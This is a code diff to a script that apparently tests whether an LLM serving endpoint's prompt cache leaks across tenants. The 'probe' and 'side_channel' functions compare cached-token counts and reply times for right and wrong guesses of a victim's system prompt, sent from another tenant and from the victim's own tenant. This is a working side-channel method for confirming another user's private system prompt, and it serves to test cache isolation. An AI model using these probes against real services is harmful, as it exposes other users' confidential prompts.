@@ -116,10 +116,10 @@ def attacks(base: str, victim: Victim) -> dict[str, Any]:
     return out
 
 
-def probe(base: str, key: str, guess: bool, i: int) -> tuple[int, float]:
+def probe(base: str, key: str, guess: bool, i: int) -> tuple[int, float, int]:
     """One probe: a temporary chat session whose system prompt is the victim's (``guess``) or as long and different
-    from its first token; returns (cached tokens, seconds to the reply)."""
-    text = POLICY if guess else "Z" + POLICY[1:].replace("o", "0")
+    from its first token; returns (cached tokens, seconds to the reply, prompt tokens)."""
+    text = POLICY if guess else "We" + POLICY[len("You"):]  # as long, in tokens; different from its first token
     body = {"model": MODEL, "max_tokens": 1,  # no key: a temporary session, closed after it (no earlier probe helps)
             "messages": [{"role": "system", "content": text}, {"role": "user", "content": "Hi"}]}
     start = time.perf_counter()
@@ -127,22 +127,24 @@ def probe(base: str, key: str, guess: bool, i: int) -> tuple[int, float]:
                    trust_env=False)
     elapsed = time.perf_counter() - start
     r.raise_for_status()
-    return r.json()["usage"]["prompt_tokens_details"]["cached_tokens"], elapsed
+    usage = r.json()["usage"]
+    return usage["prompt_tokens_details"]["cached_tokens"], elapsed, usage["prompt_tokens"]
 
 
 def side_channel(base: str) -> dict[str, Any]:
     out: dict[str, Any] = {}
     for who, key in (("bob (another tenant)", BOB), ("alice (the victim's own tenant)", ALICE)):
-        rows: dict[bool, list[tuple[int, float]]] = {True: [], False: []}
+        rows: dict[bool, list[tuple[int, float, int]]] = {True: [], False: []}
         for i in range(12):
             for guess in (True, False):
                 rows[guess].append(probe(base, key, guess, i))
         right, wrong = rows[True], rows[False]
         out[who] = {
-            "right_guess_cached_tokens": sorted({c for c, _ in right}),
-            "wrong_guess_cached_tokens": sorted({c for c, _ in wrong}),
-            "right_guess_median_ms": round(statistics.median(t for _, t in right) * 1000, 1),
-            "wrong_guess_median_ms": round(statistics.median(t for _, t in wrong) * 1000, 1),
+            "prompt_tokens": sorted({n for _, _, n in right + wrong}),
+            "right_guess_cached_tokens": sorted({c for c, _, _ in right}),
+            "wrong_guess_cached_tokens": sorted({c for c, _, _ in wrong}),
+            "right_guess_median_ms": round(statistics.median(t for _, t, _ in right) * 1000, 1),
+            "wrong_guess_median_ms": round(statistics.median(t for _, t, _ in wrong) * 1000, 1),
         }
         out[who]["time_ratio_wrong_over_right"] = round(out[who]["wrong_guess_median_ms"]
                                                         / out[who]["right_guess_median_ms"], 2)
